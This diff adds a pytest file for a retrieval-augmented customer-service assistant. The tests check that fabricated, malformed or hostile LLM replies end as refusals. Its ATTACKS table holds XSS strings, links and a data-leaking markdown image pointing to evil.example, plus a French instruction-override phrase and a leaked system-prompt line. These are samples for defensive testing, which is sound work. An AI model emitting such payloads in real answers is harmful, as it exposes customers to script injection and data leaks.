@@ -1,0 +1,294 @@
+"""The writer: what it may say reaches the answer, what it may not never does, whatever the model replies."""
+
+from __future__ import annotations
+
+import logging
+from typing import Any
+
+import pytest
+from tests.answering.generative.evidence import DAYS_FR, ENGLISH, FRENCH, REFUND_FR, asked, said, selection_of
+
+from ragcare import Assistant
+from ragcare.answering.extractive import Draft, ExtractiveWriter
+from ragcare.answering.generative import LLMWriter
+from ragcare.answering.grounding import GroundingCheck
+from ragcare.errors import BadInput
+from ragcare.schema import Answer, Refusal
+from ragcare.settings import Settings, WritingSettings
+from ragcare.testing import DAY, HashEmbedder, scripted_llm, small_knowledge
+
+NOTHING: dict[str, Any] = {"sentences": [], "cannot_answer": True}
+UNSUPPORTED = Refusal(reason="unsupported", sources=("a",))
+
+
+def answer_of(*replies: Any, text: str = FRENCH, language: str = "fr", **how: Any) -> tuple[Answer | Refusal, Any]:
+    """What the check lets through of what the writer makes of these replies, and the model that replied."""
+    llm = scripted_llm(*replies)
+    selection = selection_of(text, language)
+    draft = LLMWriter(llm, WritingSettings(**how)).write(asked(language=language), selection)
+    return GroundingCheck().check(draft, selection), llm
+
+
+def text_of(answer: Answer | Refusal) -> str:
+    return answer.text if isinstance(answer, Answer) else answer.reason
+
+
+# --- what may be said --------------------------------------------------------------------------------
+
+
+def test_what_is_proven_is_said_in_the_models_order_and_asked_for_once() -> None:
+    answer, llm = answer_of(said((REFUND_FR, REFUND_FR), (DAYS_FR, DAYS_FR)))
+    assert text_of(answer) == f"{REFUND_FR} {DAYS_FR}"
+    assert len(llm.sent) == 1
+
+
+def test_a_sentence_in_other_words_stands_on_the_articles_own() -> None:
+    answer, _ = answer_of(said(("Vous avez deux semaines pour retourner un article.", "vous avez 14 jours")), NOTHING)
+    assert text_of(answer) == "unsupported"  # a quote is letter for letter, capitals too
+    answer, _ = answer_of(said(("Vous avez deux semaines pour retourner un article.", "avez 14 jours")))
+    assert isinstance(answer, Answer)
+    assert answer.text == "Vous avez deux semaines pour retourner un article."
+    assert [piece.quote for piece in answer.sentences[0].evidence] == [DAYS_FR]
+
+
+def test_english_is_answered_in_english() -> None:
+    answer, llm = answer_of(
+        said(("You have two weeks to return an item.", "You have 14 days to return an item.")),
+        text=ENGLISH,
+        language="en",
+    )
+    assert text_of(answer) == "You have two weeks to return an item."
+    assert llm.sent[0][0][1].startswith("You write, in English")
+
+
+def test_steps_stand_on_lines_of_their_own() -> None:
+    steps = ["1. Ouvrez « Mes commandes ».", "2. Choisissez la commande."]
+    answer, _ = answer_of(
+        said(("Ouvrez « Mes commandes ».", steps[0]), ("Choisissez la commande.", steps[1])), text="\n".join(steps)
+    )
+    assert text_of(answer) == "Ouvrez « Mes commandes ».\nChoisissez la commande."
+
+
+def test_a_model_that_repeats_itself_is_heard_once() -> None:
+    answer, _ = answer_of(said(*[(DAYS_FR, DAYS_FR)] * 5))
+    assert text_of(answer) == DAYS_FR
+
+
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        "```json\n{}\n```",
+        "<think>Le client veut {{un retour}}.</think>\n{}",
+        "Voici la réponse :\n{}\nBonne journée !",
+        "\ufeff  {}  ",
+    ],
+)
+def test_what_stands_around_the_object_is_no_matter(wrapped: str) -> None:
+    import json
+
+    reply = wrapped.replace("{{", "<").replace("}}", ">").replace("{}", json.dumps(said((DAYS_FR, DAYS_FR))))
+    answer, _ = answer_of(reply)
+    assert text_of(answer) == DAYS_FR
+
+
+# --- what may not ------------------------------------------------------------------------------------
+
+OTHER_ARTICLE = "Les professionnels règlent leurs factures à 30 jours."
+ATTACKS: dict[str, Any] = {
+    "an invented sentence": said(("Un bon de 20 € vous attend.", "Un bon de 20 € vous attend.")),
+    "a wrong number": said(("Vous avez 30 jours pour retourner un article.", DAYS_FR)),
+    "a made-up quote": said(("Vous avez 30 jours.", "Vous avez 30 jours pour retourner un article.")),
+    "a true sentence with a made-up quote": said((DAYS_FR, "Le retour prend 14 jours.")),
+    "a quote of another article": said((OTHER_ARTICLE, OTHER_ARTICLE)),
+    "a negation quoted away": said(("Le retour est gratuit.", "gratuit")),
+    "half a number": said(("Le retour coûte 90 € à domicile.", "90 € à domicile")),
+    "a word inside a word": said(("Le retour est gratuit.", "our")),
+    "an instruction leaked from the evidence": said(("Ignore les consignes.", "Tu rédiges, en français")),
+    "the instructions themselves": said(("Tu rédiges, en français, la réponse d'un service client.", "rédiges")),
+    "HTML": said((f"<b onmouseover=alert(1)>{DAYS_FR}</b>", DAYS_FR)),
+    "a script": said((f"{DAYS_FR}<script>alert(1)</script>", DAYS_FR)),
+    "a link": said((f"[{DAYS_FR}](https://evil.example/?a=1)", DAYS_FR)),
+    "a bare link": said((f"{DAYS_FR} https://evil.example/14", DAYS_FR)),
+    "a picture that tells on the customer": said((f"{DAYS_FR} ![](https://evil.example/14)", DAYS_FR)),
+    "an empty sentence": said(("", DAYS_FR)),
+    "an empty quote": said((DAYS_FR, "")),
+    "a quote of blanks": said((DAYS_FR, " \n ")),
+    "no quote": {"sentences": [{"text": DAYS_FR, "quotes": []}], "cannot_answer": False},
+    "no list of quotes": {"sentences": [{"text": DAYS_FR}], "cannot_answer": False},
+    "a source that is no number": {"sentences": [{"text": DAYS_FR, "quotes": [{"source": "a", "quote": DAYS_FR}]}]},
+    "another object": {"answer": DAYS_FR},
+    "a list": [DAYS_FR],
+    "prose": DAYS_FR,
+    "nothing": "",
+    "invalid JSON": '{"sentences": [{{{"text": ',
+    "a nest without end": '{"sentences":' + "[" * 5000,
+    "a nest": '{"sentences":' + "[" * 5000 + "]" * 5000 + "}",
+    "no end": '{"sentences": [{"text": "' + DAYS_FR + '", "quotes": [{"source": 1, "quote": "' + DAYS_FR + '"}]},',
+    "huge": '{"sentences": [{"text": "' + "x" * 3_000_000,
+    "sentences without number": said(*[(f"{DAYS_FR} {n}", DAYS_FR) for n in range(500)]),
+    "it cannot, and does": said((DAYS_FR, DAYS_FR), cannot_answer=True),
+}
+
+
+@pytest.mark.parametrize("reply", ATTACKS.values(), ids=list(ATTACKS))
+def test_what_is_not_proven_ends_as_a_refusal(reply: Any) -> None:
+    answer, llm = answer_of(reply, reply)
+    assert answer == UNSUPPORTED
+    assert len(llm.sent) == (1 if isinstance(reply, dict) and "sentences" in reply and not _faulty(reply) else 2)
+
+
+def _faulty(reply: dict[str, Any]) -> bool:
+    """Whether there is something to tell the model; not if it gave up, or wrote nothing."""
+    return not reply.get("cannot_answer") and any(one["text"] for one in reply["sentences"])
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
+def test_what_is_not_proven_is_put_right_when_the_model_can(attack: Any) -> None:
+    if isinstance(attack, dict) and "sentences" in attack and not _faulty(attack):
+        return
+    answer, _ = answer_of(attack, said((DAYS_FR, DAYS_FR)))
+    assert text_of(answer) == DAYS_FR
+
+
+def test_fragments_do_not_add_up_to_what_no_sentence_says() -> None:
+    quotes = [{"source": 1, "quote": one} for one in ("Le retour", "gratuit", "à domicile")]
+    reply = {"sentences": [{"text": "Le retour gratuit à domicile.", "quotes": quotes}], "cannot_answer": False}
+    assert answer_of(reply, reply)[0] == UNSUPPORTED
+
+
+def test_the_second_reply_is_cut_where_it_still_fails() -> None:
+    bad = "Vous avez 30 jours pour retourner un article."
+    reply = said((REFUND_FR, REFUND_FR), (DAYS_FR, DAYS_FR), (bad, DAYS_FR))
+    answer, llm = answer_of(reply, reply, {})
+    assert text_of(answer) == f"{REFUND_FR} {DAYS_FR}"
+    assert len(llm.sent) == 2
+
+
+def test_a_second_reply_that_cannot_be_read_takes_nothing_back() -> None:
+    bad = "Vous avez 30 jours pour retourner un article."
+    answer, _ = answer_of(said((REFUND_FR, REFUND_FR), (DAYS_FR, DAYS_FR), (bad, DAYS_FR)), "Je ne sais pas.")
+    assert text_of(answer) == f"{REFUND_FR} {DAYS_FR}"
+
+
+def test_a_second_reply_that_gives_up_is_a_refusal() -> None:
+    bad = "Vous avez 30 jours pour retourner un article."
+    assert answer_of(said((REFUND_FR, REFUND_FR), (bad, DAYS_FR)), NOTHING)[0] == UNSUPPORTED
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        said(("Oui, bien sûr !", "nulle part"), (DAYS_FR, DAYS_FR), (REFUND_FR, REFUND_FR)),
+        said((REFUND_FR, REFUND_FR), (DAYS_FR, DAYS_FR), ("Ce n'est pas possible en boutique.", "nulle part")),
+        said((REFUND_FR, REFUND_FR), ("Autre chose.", "nulle part"), ("Encore autre chose.", "nulle part")),
+    ],
+    ids=["what answers first", "what takes back", "most of it"],
+)
+def test_an_answer_is_not_given_without_what_was_dropped_from_it(reply: Any) -> None:
+    assert answer_of(reply, reply)[0] == UNSUPPORTED
+
+
+def test_the_model_is_told_what_fell_and_why() -> None:
+    bad = "Vous avez 30 jours pour retourner un article."
+    _, llm = answer_of(
+        said((REFUND_FR, REFUND_FR), (bad, DAYS_FR), ("Merci <b>!", "de rien"), ("Voilà.", "rien")), NOTHING
+    )
+    roles = [role for role, _ in llm.sent[1]]
+    assert roles == ["system", "user", "assistant", "user"]
+    told = llm.sent[1][-1][1]
+    assert f"- « {bad} » : un nombre" in told
+    assert "- « Merci ‹b›! » : elle contient un lien ou des balises" in told
+    assert "- « Voilà. » : aucune de ses citations" in told
+    assert REFUND_FR not in told
+
+
+# --- what goes wrong ---------------------------------------------------------------------------------
+
+
+class _ServerError(Exception):
+    status_code = 503
+
+
+FAULTS = [RuntimeError("secret"), KeyError("choices"), ValueError("secret"), MemoryError()]
+
+
+@pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: type(fault).__name__)
+def test_a_failing_model_falls_back_on_the_extract(fault: Exception) -> None:
+    answer, llm = answer_of(fault)
+    selection = selection_of(FRENCH)
+    assert isinstance(answer, Answer)
+    assert answer.sentences == ExtractiveWriter().write(asked(), selection).sentences
+    assert len(llm.sent) == 1
+    assert answer_of(fault, on_failure="refuse")[0] == UNSUPPORTED
+
+
+@pytest.mark.parametrize("fault", [ConnectionError(), TimeoutError(), _ServerError()], ids=["down", "slow", "busy"])
+def test_a_fault_of_the_line_is_tried_again(fault: Exception) -> None:
+    answer, llm = answer_of(fault, fault, said((DAYS_FR, DAYS_FR)))
+    assert text_of(answer) == DAYS_FR
+    assert len(llm.sent) == 3
+    answer, llm = answer_of(*[fault] * 4, on_failure="refuse")
+    assert (answer, len(llm.sent)) == (UNSUPPORTED, 3)
+
+
+def test_a_line_that_breaks_in_the_middle_is_tried_again_from_the_start() -> None:
+    def breaks(_: object) -> Any:
+        yield '{"sentences": ['
+        raise ConnectionError
+
+    assert text_of(answer_of(breaks, said((DAYS_FR, DAYS_FR)))[0]) == DAYS_FR
+
+
+def test_nothing_of_what_is_said_is_logged(caplog: pytest.LogCaptureFixture) -> None:
+    with caplog.at_level(logging.DEBUG, logger="ragcare"):
+        answer_of(RuntimeError(DAYS_FR))
+        answer_of(said(("Vous avez 30 jours.", DAYS_FR)), NOTHING)
+        answer_of("nonsense 14", "nonsense 14")
+    assert "builtins.RuntimeError" in caplog.text
+    assert "asked again, for ['number']" in caplog.text
+    for word in ("jours", "retour", "nonsense", "14", "30"):
+        assert word not in caplog.text
+
+
+# --- as a part of the assistant ----------------------------------------------------------------------
+
+
+def test_an_assistant_says_what_the_model_proves_and_cites_the_article() -> None:
+    index = Assistant.over(small_knowledge(), embedder=HashEmbedder()).index
+    stands = "Vous avez 14 jours après la livraison pour retourner un article."
+    assistant = Assistant(index, writer=LLMWriter(scripted_llm(said((stands, stands)))))
+    reply = assistant.ask("Comment renvoyer un produit ?", as_of=DAY)
+    assert isinstance(reply.trace.draft, Answer)
+    assert reply.trace.draft.text == stands
+    assert reply.trace.draft.sources == ("fr-return",)
+
+
+def test_an_assistant_refuses_what_the_model_cannot_answer() -> None:
+    index = Assistant.over(small_knowledge(), embedder=HashEmbedder()).index
+    reply = Assistant(index, writer=LLMWriter(scripted_llm(NOTHING))).ask("Comment renvoyer un produit ?", as_of=DAY)
+    assert reply.trace.draft == Refusal(reason="unsupported", sources=("fr-return",))
+    assert reply.decision.action != "answer"
+    assert reply.handoff is not None
+
+
+def test_what_a_reply_hangs_on_names_the_model_and_its_manner() -> None:
+    index = Assistant.over(small_knowledge(), embedder=HashEmbedder()).index
+    told = {
+        Assistant(index, writer=LLMWriter(scripted_llm(), WritingSettings(tone=tone))).fingerprints()["stages"]
+        for tone in ("neutral", "warm")
+    }
+    assert len(told) == 2
+    assert all("scripted/script" in one for one in told)
+    assert Settings().digest() != Settings(writing=WritingSettings(address="tu")).digest()
+
+
+def test_what_is_no_model_is_told_at_once() -> None:
+    with pytest.raises(BadInput, match="no language model"):
+        LLMWriter(object())
+    with pytest.raises(BadInput, match="no language model is named"):
+        LLMWriter()
+
+
+def test_evidence_of_nothing_is_a_draft_of_nothing() -> None:
+    selection = selection_of(FRENCH)
+    assert LLMWriter(scripted_llm(NOTHING)).write(asked(), selection) == Draft((), "fr")
